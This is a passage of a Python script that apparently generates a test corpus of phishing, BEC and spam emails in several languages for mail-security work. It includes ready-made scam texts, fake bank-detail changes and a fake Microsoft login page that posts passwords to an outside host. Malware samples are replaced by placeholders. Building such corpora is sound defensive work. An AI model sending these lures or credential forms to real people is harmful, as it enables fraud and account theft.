              "Revisión cierre fiscal 2026 - documentación pendiente", T(4, 11, 0), T(4, 11, 45),
              ("María López Vidal", "m.lopez@asesoria-lopezvidal.es"), [("Lucía Fernández", rc)],
              location="Reunión de Microsoft Teams",
              description="Reunión de Microsoft Teams\nUnirse ahora: %s\nId. de reunión: 381 447 902 615\nCódigo de acceso: Xk7pQ2\n\nAntes de la reunión, revise los documentos compartidos (requiere inicio de sesión con su cuenta corporativa)." % join,
              tzid="Romance Standard Time", url=join)
    html = ('<html><body><div style="font-family:Segoe UI;font-size:14px">Buenos días Lucía,<br><br>Le envío convocatoria para revisar la documentación pendiente del cierre fiscal.'
            '<br><br>________________________________________________________________________________<br>'
            '<b>Reunión de Microsoft Teams</b><br><a href="%s">Unirse ahora</a><br>Id. de reunión: 381 447 902 615<br>Código de acceso: Xk7pQ2<br>'
            '________________________________________________________________________________</div></body></html>' % join)
    b = "_000_%s_" % hx("a22b", n=30)
    body = MP("alternative", [TXT("Buenos días Lucía,\n\nLe envío convocatoria para revisar la documentación pendiente del cierre fiscal.\n\nReunión de Microsoft Teams\nUnirse ahora: %s\n" % join),
                              HTML(html), ATT(cal, "text/calendar; method=REQUEST", "invite.ics", disp="inline", extra_ct=' charset="utf-8";')], b)
    emit("attack", "22-es-calendar-invite-fake-teams.eml",
         "Calendar-invitation phishing: an .ics meeting request from a spoofed/lookalike accountancy contact with a fake 'Microsoft Teams' join link that leads to a credential page.",
         client=("mail.asesoria-lopezvidal.es", "ns3192274.ip-51-89-188.eu", "51.89.188.201"), rcpt=rc, t=t,
         rp="m.lopez@asesoria-lopezvidal.es", tls="1.3",
         hdrs=[("From", A("María López Vidal", "m.lopez@asesoria-lopezvidal.es")), ("To", A("Lucía Fernández", rc)),
               ("Subject", ew("Revisión cierre fiscal 2026 - documentación pendiente")),
               ("Message-ID", "<%s@asesoria-lopezvidal.es>" % hx("a22m", n=30)), ("X-Mailer", "Microsoft Outlook 16.0")],
         body=body)

    # 23 Unsolicited SEO cold outreach
    rc = E("ruiz")
    t = T(4, 8, 12, 55, CET)
    client, relays, extra = gmail_infra(t, "a23", rc, host=("mail-sor-f69.google.com", "209.85.220.69"))
    txt = ("Hola Carmen,\n\nHe estado revisando examplegroup.eu y he detectado 27 errores técnicos de SEO que "
           "están impidiendo que aparezcáis en la primera página de Google para búsquedas como \"transporte "
           "internacional Valencia\" o \"logística Europa\".\n\n"
           "En GrowthSEO trabajamos con más de 300 empresas del sector y garantizamos resultados en 90 días o "
           "te devolvemos el dinero. Además, ahora incluimos optimización para buscadores con IA (ChatGPT, "
           "Gemini, Perplexity).\n\n¿Te parece si te envío el informe gratuito? Solo tienes que responder \"SÍ\".\n\n"
           "Un saludo,\nDaniel Ortega\nConsultor SEO | GrowthSEO Agencia\n\n"
           "P.D.: Si no te interesa, responde \"BAJA\" y no te volveré a escribir.\n")
    emit("attack", "23-es-cold-seo-outreach.eml",
         "Unsolicited cold sales outreach (SEO/'AI search' services) sent through a Google Workspace sending domain in a lead-gen sequence.",
         client=client, rcpt=rc, t=t, rp="daniel@growthseo-agencia.com", relays=relays,
         hdrs=extra + [("MIME-Version", "1.0"), ("From", A("Daniel Ortega", "daniel@growthseo-agencia.com")),
                       ("Date", rfc(t)), ("Message-ID", gmail_mid("a23")),
                       ("Subject", ew("Carmen, 27 errores en examplegroup.eu")), ("To", rc)],
         body=TXT(txt, cs="UTF-8", csname="UTF-8"))

# =========================================================== ATTACK (it) ==

def attack_it():
    # 24 Aruba domain renewal phishing
    rc = E("ferraro")
    t = T(30, 9, 5, 18, CET)
    link = "https://aruba-rinnovo-servizi.com/it/rinnovo/?dominio=examplegroup.eu&id=%s" % hx("a24", n=10)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="background:#f47920;color:#fff;padding:14px;font-size:22px"><b>Aruba.it</b></div><div style="padding:18px">'
            'Gentile Cliente,<br><br>il dominio <b>examplegroup.eu</b> e i servizi collegati (hosting, caselle e-mail) '
            'scadranno il <b>02/12/2026</b>.<br><br>Il rinnovo automatico non è andato a buon fine: la carta di credito associata risulta '
            'rifiutata. Per evitare la sospensione della posta elettronica è necessario aggiornare il metodo di pagamento.<br><br>'
            'Importo: <b>4,99 &euro;</b> + IVA<br><br><a href="%s" style="background:#f47920;color:#fff;padding:10px 22px;text-decoration:none">Rinnova ora</a>'
            '<br><br>Cordiali saluti,<br>Il Team Aruba</div></body></html>' % link)
    b = "----=_Part_%s" % hx("a24b", n=20)
    body = MP("alternative", [TXT("Gentile Cliente,\nil dominio examplegroup.eu scadrà il 02/12/2026. Rinnova ora: %s\n" % link, cs="iso-8859-15"),
                              HTML(html, cs="iso-8859-15")], b)
    emit("attack", "24-it-aruba-domain-renewal-phish.eml",
         "Aruba.it impersonation: 'domain examplegroup.eu expires, card declined, pay 4.99 EUR' card-harvesting phish.",
         client=("mail.aruba-rinnovo-servizi.com", "unknown", "193.233.48.211"), rcpt=rc, t=t,
         rp="noreply@aruba-rinnovo-servizi.com", tls="1.2",
         hdrs=[("From", A("Aruba.it", "noreply@aruba-rinnovo-servizi.com", quote=True)), ("To", rc),
               ("Subject", ew("Avviso scadenza: examplegroup.eu verrà sospeso il 02/12/2026", "iso-8859-15", q=True)),
               ("Message-ID", "<%s@aruba-rinnovo-servizi.com>" % hx("a24m", n=24))],
         body=body)

    # 25 Genuinely compromised haulier mailbox (amministrazione@ferretti-trasporti.it), reply-to lookalike
    rc = E("deluca")
    t = T(1, 15, 27, 50, CET)
    client, relays, extra = aruba_infra(t, "a25", login_ip="102.89.34.117", login_helo="webmail-aruba")
    txt = ("Gentile Cliente,\n\ncon la presente Vi comunichiamo che, a seguito di una verifica fiscale in corso sul "
           "nostro conto principale, i pagamenti delle fatture in scadenza dovranno essere effettuati esclusivamente "
           "sul seguente conto corrente:\n\nIntestatario: Ferretti Trasporti S.r.l.\nIBAN: BE71 9670 5843 2169\n"
           "BIC: TRWIBEB1XXX\nBanca: Wise Europe SA\n\n"
           "Vi chiediamo di provvedere con cortese urgenza al saldo delle fatture n. 2026/1788 e 2026/1841 "
           "(totale EUR 23.480,00) e di inviarci la contabile di bonifico in risposta a questa e-mail.\n\n"
           "Per qualsiasi chiarimento rispondete pure a questo indirizzo; l'ufficio è momentaneamente non "
           "raggiungibile telefonicamente.\n\nCordiali saluti\n\nUfficio Amministrazione\nFerretti Trasporti S.r.l.\n"
           "Via dell'Industria 22 - 37135 Verona\nP.IVA 03812450238\n")
    b = "=_%s" % hx("a25b", n=32)
    body = MP("alternative", [TXT(txt, cs="UTF-8", csname="UTF-8", csq=False),
                              HTML('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head><body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n<p>' + txt.replace("\n\n", "</p>\n<p>").replace("\n", "<br />\n") + '</p>\n</body></html>', cs="UTF-8", csname="UTF-8", csq=False)], b)
    emit("attack", "25-it-compromised-haulier-iban-change.eml",
         "Payment diversion from the genuinely compromised mailbox amministrazione@ferretti-trasporti.it (real Aruba infrastructure, webmail login from abroad) with a new Belgian IBAN and Reply-To to a lookalike domain.",
         client=client, rcpt=rc, t=t, rp="amministrazione@ferretti-trasporti.it", relays=relays,
         hdrs=[("MIME-Version", "1.0"), ("Date", rfc(t)), ("From", A("Ferretti Trasporti - Amministrazione", "amministrazione@ferretti-trasporti.it")),
               ("To", rc), ("Reply-To", "amministrazione@ferretti-trasporti-srl.it"),
               ("Subject", "Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.r.l."),
               ("Message-ID", "<%s@ferretti-trasporti.it>" % hx("a25m", n=32)),
               ("X-Sender", "amministrazione@ferretti-trasporti.it"), ("User-Agent", "Roundcube Webmail/1.6.9")] + extra,
         body=body)

    # 26 Agenzia delle Entrate lure, PDF with link to malware ZIP
    rc = E("deluca")
    t = T(2, 11, 48, 3, CET)
    dl = "https://agenziaentrate-comunicazioni.online/download/Avviso_2026_11_4471.zip"
    doc = pdf([("Agenzia delle Entrate", 16), "Direzione Provinciale di Milano - Ufficio Controlli", "",
               ("Comunicazione di irregolarita n. 2026/4471 (art. 36-bis DPR 600/73)", 12), "",
               "Dal controllo automatizzato della dichiarazione IVA 2026 sono emerse irregolarita.",
               "Il documento completo e il prospetto di calcolo sono disponibili al link seguente:", "",
               "SCARICA IL DOCUMENTO COMPLETO", "",
               "In mancanza di riscontro entro 30 giorni si procedera all'iscrizione a ruolo."],
              title="Comunicazione", author="AdE", links=[(dl, (50, 600, 300, 625))], seed="a26")
    txt = ("Gentile contribuente,\n\nLe trasmettiamo in allegato la comunicazione relativa all'esito del controllo "
           "automatizzato della dichiarazione IVA.\n\nAgenzia delle Entrate\n")
    b = "----=_Part_%s" % hx("a26b", n=20)
    body = MP("mixed", [TXT(txt, cs="iso-8859-1", csname="ISO-8859-1"), ATT(doc, "application/pdf", "Comunicazione_2026_4471.pdf")], b)
    emit("attack", "26-it-agenzia-entrate-pdf-link.eml",
         "Agenzia delle Entrate impersonation with a PDF whose embedded link downloads a malware ZIP (PDF-link lure to slip past URL scanning of the body).",
         client=("vps-e1d2.aruba-cloud-it.com", "host131-46-static.117-82-b.business.telecomitalia.it", "82.117.46.131"), rcpt=rc, t=t,
         rp="comunicazioni@agenziaentrate-comunicazioni.online", tls="1.2",
         hdrs=[("From", A("Agenzia delle Entrate", "comunicazioni@agenziaentrate-comunicazioni.online")), ("To", rc),
               ("Subject", "Comunicazione di irregolarita n. 2026/4471"),
               ("Message-ID", "<%s@agenziaentrate-comunicazioni.online>" % hx("a26m", n=24))],
         body=body)

    # 27 BRT parcel fee scam
    rc = E("rinaldi")
    t = T(3, 13, 14, 26, CET)
    link = "https://brt-giacenza.info/it/tracking/0478112093?pay=1"
    html = ('<html><body style="font-family:Arial;font-size:14px"><div style="background:#c8102e;color:#fff;padding:12px;font-size:20px"><b>BRT</b></div>'
            '<p>Gentile cliente,</p><p>la spedizione n. <b>0478112093</b> è in giacenza presso la nostra filiale di Milano Linate '
            'perché il contributo di consegna non risulta pagato.</p><p>Importo dovuto: <b>1,99 €</b></p>'
            '<p><a href="%s" style="background:#c8102e;color:#fff;padding:10px 18px;text-decoration:none">Programma la consegna</a></p>'
            '<p style="font-size:11px">In assenza di pagamento entro 48 ore la merce sarà restituita al mittente.</p></body></html>' % link)
    body = HTML(html, cs="utf-8", cte="base64")
    emit("attack", "27-it-brt-parcel-fee-scam.eml",
         "Courier fee scam (BRT 'parcel held, pay 1.99 EUR') leading to a card-harvesting page, single HTML part.",
         client=("mail9.smtp-relay-eu.net", "unknown", "45.88.97.140"), rcpt=rc, t=t,
         rp="no-reply@brt-giacenza.info", tls=None,
         hdrs=[("From", A("BRT Spedizioni", "no-reply@brt-giacenza.info")), ("To", rc),
               ("Subject", ew("La tua spedizione è in giacenza - azione richiesta")),
               ("Message-ID", "<%s@brt-giacenza.info>" % hx("a27m", n=20))],
         body=body)

    # 28 Fake quarantine digest (impersonating the company's own mail filter)
    rc = E("ferraro")
    t = T(4, 7, 1, 0, CET)
    base = "https://mailsecurity-examplegroup.eu.com/quarantine/release?u=%s&id=" % base64.b64encode(rc.encode()).decode()
    rows = [("Ferretti Trasporti", "Fattura 2026/1893 - sollecito", "01/12/2026 17:42"),
            ("DHL Express", "Documenti doganali spedizione 4471", "02/12/2026 09:15"),
            ("Ufficio Personale", "Tredicesima 2026 - prospetto", "03/12/2026 11:03"),
            ("Microsoft 365", "Condivisione file: Budget_2027.xlsx", "03/12/2026 16:27")]
    trs = "".join('<tr><td>%s</td><td>%s</td><td>%s</td><td><a href="%s%s">Rilascia</a></td></tr>' % (a, s, d, base, hx("q", i, n=8)) for i, (a, s, d) in enumerate(rows))
    html = ('<html><body style="font-family:Segoe UI,Arial;font-size:13px"><h3>Example Group Mail Security - Riepilogo quarantena</h3>'
            '<p>4 messaggi indirizzati a <b>%s</b> sono stati trattenuti e verranno eliminati tra 24 ore.</p>'
            '<table border="1" cellpadding="5" style="border-collapse:collapse"><tr><th>Mittente</th><th>Oggetto</th><th>Data</th><th></th></tr>%s</table>'
            '<p><a href="%sall">Rilascia tutti i messaggi</a></p></body></html>' % (rc, trs, base))
    body = MP("alternative", [TXT("4 messaggi trattenuti in quarantena. Rilascia: %sall\n" % base), HTML(html)], "b1=_%s" % hx("a28b", n=24))
    emit("attack", "28-it-fake-quarantine-digest.eml",
         "Fake spam-quarantine digest impersonating the company's own mail-security system, 'Release' links go to a credential harvester.",
         client=("smtp2.mailsecurity-examplegroup.eu.com", "smtp2.mailsecurity-examplegroup.eu.com", "103.75.118.29"), rcpt=rc, t=t,
         rp="quarantine@mailsecurity-examplegroup.eu.com", tls="1.3",
         hdrs=[("From", A("Example Group Mail Security", "quarantine@mailsecurity-examplegroup.eu.com")), ("To", rc),
               ("Subject", "Example Group: 4 messaggi trattenuti in quarantena"),
               ("Message-ID", "<%s@mailsecurity-examplegroup.eu.com>" % hx("a28m", n=24)), ("Auto-Submitted", "auto-generated")],
         body=body)

    # 29 Attendee-list sales spam
    rc = E("ferraro")
    t = T(5, 8, 44, 13, EST)
    client = ("EUR01-VE1-obe.outbound.protection.outlook.com", "mail-ve1eur01on2059.outbound.protection.outlook.com", "40.107.14.59")
    _c, relays, extra = m365_infra(t, "a29", tenant_host="PH0PR19MB5322", region="namprd19", client=client)
    txt = ("Ciao Giulia,\n\nSarebbe interessata ad acquisire l'elenco dei visitatori e partecipanti di "
           "Transpotec Logitec 2026 e Ecomondo 2026?\n\n"
           "Numero di contatti: 48.230\nInformazioni: nome, cognome, ruolo, azienda, e-mail verificata, telefono, sito web.\n\n"
           "Fatemi sapere se siete interessati, così posso inviarvi il preventivo e ulteriori dettagli.\n\n"
           "Cordiali saluti,\nEmily Carter\nEvent Marketing Coordinator\n\n"
           "Se non desidera ricevere ulteriori e-mail, risponda con \"Rimuovi\" nell'oggetto.\n")
    emit("attack", "29-it-attendee-list-sales-spam.eml",
         "Trade-fair attendee-list selling spam (unsolicited bulk, typical list-broker wording) from a throwaway Microsoft 365 tenant.",
         client=client, rcpt=rc, t=t, rp="emily.carter@expo-leadsdata.com", relays=relays,
         hdrs=[("From", A("Emily Carter", "emily.carter@expo-leadsdata.com")), ("To", A("Giulia Ferraro", rc)),
               ("Subject", "RE: Elenco partecipanti Transpotec Logitec 2026"), ("Thread-Topic", "Elenco partecipanti Transpotec Logitec 2026"),
               ("Thread-Index", thread_index("a29")), ("Date", rfc(t, False)),
               ("Message-ID", outlook_mid("a29", "PH0PR19MB5322", "NAMPRD19"))] + extra,
         body=TXT(txt, cs="iso-8859-1", csq=True), tls="1.2")

# =========================================================== ATTACK (pl) ==

def attack_pl():
    # 30 Fake bank transfer confirmation with ZIP (JS placeholder)
    rc = E("nowak")
    t = T(30, 13, 2, 41, CET)
    inner = ("// PLACEHOLDER FILE - harmless text.\r\n// Original sample: obfuscated JScript downloader "
             "(wscript) disguised as a PDF transfer confirmation.\r\n").encode()
    z = mkzip([("Potwierdzenie_przelewu_20261130_PKO.pdf.js", inner)], dt=(2026, 11, 30, 12, 50, 0))
    txt = ("Dzień dobry,\n\nw załączeniu przesyłamy potwierdzenie realizacji przelewu na kwotę 18 450,00 PLN "
           "zleconego przez naszego klienta na Państwa rachunek.\n\nProsimy o sprawdzenie zgodności danych.\n\n"
           "Wiadomość została wygenerowana automatycznie, prosimy na nią nie odpowiadać.\n\nPKO Bank Polski\n")
    b = "----=_NextPart_%s" % hx("a30b", n=20)
    body = MP("mixed", [TXT(txt, cs="iso-8859-2", csname="iso-8859-2"),
                        ATT(z, "application/zip", "Potwierdzenie_przelewu_20261130.zip")], b)
    emit("attack", "30-pl-fake-transfer-confirmation-zip.eml",
         "Polish malware lure: fake PKO BP 'potwierdzenie przelewu' with a ZIP containing a '.pdf.js' downloader placeholder.",
         client=("host-46-229-187-12.dynamic.mm.pl", "unknown", "46.229.187.12"), rcpt=rc, t=t,
         rp="powiadomienia@pkobp-potwierdzenia.pl", tls=None,
         hdrs=[("From", A("PKO Bank Polski", "powiadomienia@pkobp-potwierdzenia.pl")), ("To", rc),
               ("Subject", ew("Potwierdzenie przelewu - 18 450,00 PLN", "iso-8859-2", q=True)),
               ("Message-ID", "<%s@pkobp-potwierdzenia.pl>" % hx("a30m", n=20))],
         body=body)

    # 31 InPost surcharge scam
    rc = E("wisniewski")
    t = T(1, 18, 20, 5, CET)
    link = "https://inpost-doplata.pl-paczka.top/track/6200%s" % hx("a31", n=8)
    html = ('<html><body style="font-family:Arial;background:#f7f7f7"><table width="560" align="center" style="background:#fff">'
            '<tr><td style="background:#ffcd00;padding:14px;font-size:22px;font-weight:bold">InPost</td></tr>'
            '<tr><td style="padding:20px;font-size:14px">Twoja paczka nie mogła zostać umieszczona w Paczkomacie z powodu '
            'niepełnej opłaty za przesyłkę.<br><br>Do zapłaty: <b>1,89 zł</b><br><br>'
            '<a href="%s" style="background:#ffcd00;color:#000;padding:10px 20px;text-decoration:none;font-weight:bold">Dopłać i odbierz paczkę</a>'
            '<br><br>Jeśli opłata nie zostanie uiszczona w ciągu 48 godzin, paczka zostanie zwrócona do nadawcy.</td></tr></table></body></html>' % link)
    body = MP("alternative", [TXT("Twoja paczka czeka na dopłatę 1,89 zł: %s\n" % link, cs="windows-1250", csname="windows-1250"),
                              HTML(html, cs="windows-1250", csname="windows-1250")], "----=_Part_%s" % hx("a31b", n=18))
    emit("attack", "31-pl-inpost-surcharge-scam.eml",
         "InPost parcel-surcharge scam (pay 1.89 PLN) leading to a card/BLIK phishing page on a .top domain.",
         client=("mta3.pl-paczka.top", "unknown", "194.26.29.115"), rcpt=rc, t=t,
         rp="info@pl-paczka.top", tls="1.2",
         hdrs=[("From", A("InPost", "powiadomienia@pl-paczka.top")), ("To", rc),
               ("Subject", ew("Twoja paczka czeka na dopłatę", "windows-1250", csname="windows-1250")),
               ("Message-ID", "<%s@pl-paczka.top>" % hx("a31m", n=22))],
         body=body)

    # 32 KSeF phishing
    rc = E("nowak")
    t = T(2, 10, 7, 33, CET)
    link = "https://ksef-podatki-gov.pl.weryfikacja-faktur.com/logowanie?kid=%s" % hx("a32", n=12)
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="border-bottom:3px solid #d4213d;padding:10px"><b>Krajowy System e-Faktur</b> | Ministerstwo Finansów</div>'
            '<p>Szanowni Państwo,</p><p>w Krajowym Systemie e-Faktur (KSeF) zarejestrowano fakturę ustrukturyzowaną '
            'wystawioną na Państwa NIP, której <b>weryfikacja zakończyła się błędem</b> (niezgodność danych nabywcy).</p>'
            '<p>Numer KSeF: 7792441187-20261201-%s-5C<br>Kwota brutto: 61 254,00 PLN</p>'
            '<p>W celu uniknięcia sankcji (art. 106ni ustawy o VAT) prosimy o zalogowanie się i potwierdzenie danych w ciągu 3 dni.</p>'
            '<p><a href="%s">Zaloguj się przez login.gov.pl</a></p><p>Ministerstwo Finansów</p></body></html>' % (hx("ks", n=12).upper(), link))
    body = HTML(html, cs="utf-8", cte="quoted-printable")
    emit("attack", "32-pl-ksef-einvoice-phish.eml",
         "Phishing abusing the Polish mandatory e-invoicing system (KSeF): 'invoice verification error, log in via login.gov.pl' to a lookalike host.",
         client=("s12.mailnode-eu.com", "s12.mailnode-eu.com", "141.98.10.63"), rcpt=rc, t=t,
         rp="bounce@weryfikacja-faktur.com", tls="1.3",
         hdrs=[("From", A("KSeF - Ministerstwo Finansów", "powiadomienia@weryfikacja-faktur.com")), ("To", rc),
               ("Subject", ew("KSeF: błąd weryfikacji faktury ustrukturyzowanej – wymagane działanie")),
               ("Message-ID", "<%s@weryfikacja-faktur.com>" % hx("a32m", n=24))],
         body=body)

    # 33 mBank CompanyNet block phish
    rc = E("kaminska")
    t = T(3, 14, 31, 9, CET)
    link = "https://companynet-mbank.bezpieczne-logowanie.info/?id=%s" % hx("a33", n=14)
    txt = ("Szanowny Kliencie,\n\nz powodu wykrycia nietypowej aktywności dostęp do systemu mBank CompanyNet "
           "zostanie czasowo zablokowany w dniu 04.12.2026.\n\nAby zachować dostęp, zweryfikuj swoje dane "
           "logowania oraz token mobilny:\n%s\n\nZespół Bezpieczeństwa mBank S.A.\n" % link)
    emit("attack", "33-pl-mbank-companynet-phish.eml",
         "mBank CompanyNet business-banking phish ('access will be blocked') in windows-1250 plain text via a compromised shared host.",
         client=("server217542.nazwa.pl", "server217542.nazwa.pl", "185.253.212.44"), rcpt=rc, t=t,
         rp="server217542@server217542.nazwa.pl", tls="1.2",
         hdrs=[("From", A("mBank CompanyNet", "bezpieczenstwo@server217542.nazwa.pl")), ("To", rc),
               ("Subject", ew("Ważne: blokada dostępu do mBank CompanyNet", "windows-1250", q=True, csname="windows-1250")),
               ("Message-ID", "<%s@server217542.nazwa.pl>" % hx("a33m", n=20)), ("X-Mailer", "PHP/8.1.31")],
         body=TXT(txt, cs="windows-1250", csname="windows-1250", cte="8bit"))

    # 34 Genuinely compromised partner accounting mailbox sends HTML attachment phish
    rc = E("nowak")
    t = T(4, 9, 36, 58, CET)
    client, relays, extra = m365_infra(t, "plpartner34", tenant_host="VI1PR02MB5518", region="eurprd02",
                                       tenant_id="3b1d7f0e-6a2c-4f4e-9d11-0c5e7a2b9f41")
    att = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Faktura FV/2026/11/412</title></head><body style="font-family:Segoe UI;background:#f2f2f2">'
           '<div style="width:380px;margin:80px auto;background:#fff;padding:30px">'
           '<img alt="Microsoft" src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_564db913a7fa0ca42727161c6d031bef.svg"><h2>Zaloguj się</h2>'
           '<p>Dokument jest chroniony. Zaloguj się, aby wyświetlić fakturę.</p>'
           '<form method="post" action="https://partner-logistik-docs.workers.dev/submit">'
           '<input name="u" value="k.nowak@example.com" style="width:100%"><br><br><input name="p" type="password" placeholder="Hasło" style="width:100%">'
           '<br><br><button style="background:#0067b8;color:#fff;border:0;padding:8px 30px">Dalej</button></form>'
           '<!-- SAFE PLACEHOLDER: original contained base64/XOR-obfuscated JS that exfiltrated credentials via Telegram bot API -->'
           '</div></body></html>')
    txt = ("Dzień dobry,\n\nw załączeniu przesyłam fakturę FV/2026/11/412 za usługi transportowe w listopadzie.\n"
           "Proszę o potwierdzenie otrzymania.\n\nPozdrawiam\nDział Księgowości\nPartner Logistik Sp. z o.o.\n")
    b = "_004_VI1PR02MB5518%s_" % hx("a34b", n=24).upper()
    body = MP("mixed", [MP("alternative", [TXT(txt, cs="iso-8859-2"), HTML("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-2\"></head><body><p>" + txt.replace("\n", "<br>") + "</p></body></html>", cs="iso-8859-2")],
                                   "_000_VI1PR02MB5518%s_" % hx("a34c", n=24).upper()),
                        ATT(att, "text/html", "Faktura_FV-2026-11-412.html", size=True)], b)
    emit("attack", "34-pl-compromised-partner-html-invoice.eml",
         "From the genuinely compromised mailbox ksiegowosc@partner-logistik.pl (real M365 tenant): 'invoice' delivered as an HTML attachment that is a fake Microsoft login posting credentials to workers.dev.",
         client=client, rcpt=rc, t=t, rp="ksiegowosc@partner-logistik.pl", relays=relays,
         hdrs=[("From", A("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl")), ("To", A("Katarzyna Nowak", rc)),
               ("Subject", "Faktura FV/2026/11/412 - Partner Logistik"), ("Thread-Topic", "Faktura FV/2026/11/412 - Partner Logistik"),
               ("Thread-Index", thread_index("a34")), ("Date", rfc(t, False)),
               ("Message-ID", outlook_mid("a34", "VI1PR02MB5518", "EURPRD02")), ("Accept-Language", "pl-PL"),
               ("Content-Language", "pl-PL")] + extra,
         body=body, tls="1.2")

    # 35 Cold marketing: factoring
    rc = E("wisniewski")
    t = T(5, 9, 15, 0, CET)
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px"><table width="600"><tr><td>'
            '<h2 style="color:#0a4d8c">Faktoring dla firm transportowych – pieniądze z faktur nawet w 24h</h2>'
            '<p>Dzień dobry,</p><p>czekasz 60–90 dni na zapłatę od zleceniodawców? Sfinansujemy Twoje faktury transportowe '
            'od ręki: bez BIK, bez zabezpieczeń, prowizja od 0,49%%.</p><ul><li>Limit do 2 mln PLN</li><li>Decyzja w 15 minut</li><li>Obsługa faktur z KSeF</li></ul>'
            '<p><a href="https://finansedlafirm24.pl/faktoring-transport?utm_source=mailing&utm_medium=email&utm_campaign=tsl_grudzien">Sprawdź ofertę</a></p>'
            '<p style="font-size:10px;color:#888">Administratorem danych jest Finanse24 Sp. z o.o. Adres pozyskano z publicznie dostępnych rejestrów (CEIDG/KRS). '
            'Jeśli nie chcesz otrzymywać wiadomości, <a href="https://finansedlafirm24.pl/wypisz?e=%s">wypisz się</a>.</p></td></tr></table></body></html>' % hx("a35", n=16))
    body = MP("alternative", [TXT("Faktoring dla firm transportowych – pieniądze z faktur nawet w 24h.\nhttps://finansedlafirm24.pl/faktoring-transport\n"), HTML(html)], "_----------=_%s" % hx("a35b", n=20))
    emit("attack", "35-pl-cold-factoring-marketing.eml",
         "Unsolicited B2B bulk marketing for factoring/financing, address harvested from public registers, sent via an ESP.",
         client=("mta-212.freshmail.pl", "mta-212.freshmail.pl", "185.51.77.212"), rcpt=rc, t=t,
         rp="bounce-%s@mailing.finansedlafirm24.pl" % hx("a35r", n=12), tls="1.3",
         hdrs=[("From", A("Finanse24 – Faktoring", "oferta@finansedlafirm24.pl")), ("To", rc),
               ("Subject", ew("Pieniądze z faktur transportowych w 24h – bez BIK")),
               ("Message-ID", "<%s@mailing.finansedlafirm24.pl>" % hx("a35m", n=24)),
               ("List-Unsubscribe", "<https://finansedlafirm24.pl/wypisz?e=%s>, <mailto:wypisz@finansedlafirm24.pl>" % hx("a35", n=16)),
               ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk")],
         body=body)

# =========================================================== ATTACK (el) ==

def attack_el():
    # 36 Fake AADE tax refund
    rc = E("georgiou")
    t = T(30, 11, 40, 27, EET)
    link = "https://myaade-epistrofi.gov-gr.online/taxisnet/login?r=%s" % hx("a36", n=10)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-7"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="background:#003476;color:#fff;padding:12px;font-size:18px">ΑΑΔΕ - Ανεξάρτητη Αρχή Δημοσίων Εσόδων</div>'
            '<p>Αγαπητέ φορολογούμενε,</p><p>Μετά τον τελικό υπολογισμό της ετήσιας φορολογικής σας δήλωσης, δικαιούστε '
            '<b>επιστροφή φόρου ύψους 1.284,60 €</b>.</p><p>Για να λάβετε την επιστροφή, παρακαλούμε επιβεβαιώστε τα στοιχεία '
            'του τραπεζικού σας λογαριασμού (IBAN) εντός 5 εργάσιμων ημερών.</p>'
            '<p><a href="%s">Σύνδεση με κωδικούς TAXISnet</a></p><p>ΑΑΔΕ</p></body></html>' % link)
    body = MP("alternative", [TXT("Δικαιούστε επιστροφή φόρου 1.284,60 €. Σύνδεση: %s\n" % link, cs="iso-8859-7"), HTML(html, cs="iso-8859-7")],
              "----=_Part_%s" % hx("a36b", n=18))
    emit("attack", "36-el-fake-aade-tax-refund.eml",
         "Greek tax authority (ΑΑΔΕ) tax-refund phish in ISO-8859-7 asking for TAXISnet credentials and IBAN.",
         client=("mail.gov-gr.online", "unknown", "179.43.187.91"), rcpt=rc, t=t,
         rp="noreply@gov-gr.online", tls="1.2",
         hdrs=[("From", A("ΑΑΔΕ myAADE", "noreply@gov-gr.online", "iso-8859-7")), ("To", rc),
               ("Subject", ew("Επιστροφή φόρου 2026 - απαιτείται επιβεβαίωση στοιχείων", "iso-8859-7")),
               ("Message-ID", "<%s@gov-gr.online>" % hx("a36m", n=22))],
         body=body)

    # 37 ACS courier fee
    rc = E("antoniou")
    t = T(1, 17, 3, 44, EET)
    link = "https://acs-courier-gr.delivery-track.shop/gr/%s" % hx("a37", n=10)
    html = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="background:#e30613;color:#fff;padding:12px;font-size:20px"><b>ACS Courier</b></div>'
            '<p>Αγαπητέ πελάτη,</p><p>Η αποστολή σας με αριθμό <b>7418 2290 31</b> δεν μπόρεσε να παραδοθεί λόγω '
            'ελλιπούς διεύθυνσης. Για νέα προγραμματισμένη παράδοση απαιτείται τέλος 2,49 €.</p>'
            '<p><a href="%s">Προγραμματισμός παράδοσης</a></p></body></html>' % link)
    emit("attack", "37-el-acs-courier-fee-scam.eml",
         "ACS Courier delivery-fee scam in Greek (pay 2.49 EUR to reschedule) leading to card phishing.",
         client=("smtp.delivery-track.shop", "unknown", "5.181.80.203"), rcpt=rc, t=t,
         rp="info@delivery-track.shop", tls=None,
         hdrs=[("From", A("ACS Courier", "info@delivery-track.shop")), ("To", rc),
               ("Subject", ew("Η αποστολή σας δεν μπόρεσε να παραδοθεί")),
               ("Message-ID", "<%s@delivery-track.shop>" % hx("a37m", n=22))],
         body=HTML(html, cte="base64"))

    # 38 Payroll diversion BEC
    rc = E("georgiou")
    t = T(2, 8, 14, 52, EET)
    client, relays, extra = gmail_infra(t, "a38", rc, host=("mail-lj1-f171.google.com", "209.85.208.171"))
    txt = ("Ελένη καλημέρα,\n\nΆλλαξα τράπεζα και θα ήθελα η μισθοδοσία του Δεκεμβρίου (και το δώρο Χριστουγέννων) "
           "να κατατεθεί στον νέο μου λογαριασμό. Ο παλιός λογαριασμός κλείνει αυτή την εβδομάδα.\n\n"
           "Πες μου τι στοιχεία χρειάζεσαι και θα σου τα στείλω σήμερα. Είμαι σε συνάντηση, στείλε μου email.\n\n"
